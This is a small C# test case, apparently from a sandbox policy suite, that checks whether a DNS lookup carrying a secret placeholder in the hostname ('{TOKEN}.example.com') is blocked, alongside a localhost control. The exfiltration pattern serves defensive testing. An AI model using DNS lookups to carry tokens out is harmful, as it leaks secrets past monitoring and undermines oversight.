// family: socket
// tries: to carry a secret out in a name that a resolver is asked for
// policy-on: blocked
// policy-off: ok
// oracle: claim
// control: yes
using System.Net;
foreach (var name in new[] { "localhost", "{TOKEN}.example.com" })
{
    try
    {
        Console.WriteLine($"GOT {Dns.GetHostAddresses(name).Length} addresses of {name}");
    }
    catch (Exception refused)
    {
        Console.WriteLine($"{name}: {refused.GetType().Name}");
    }
}
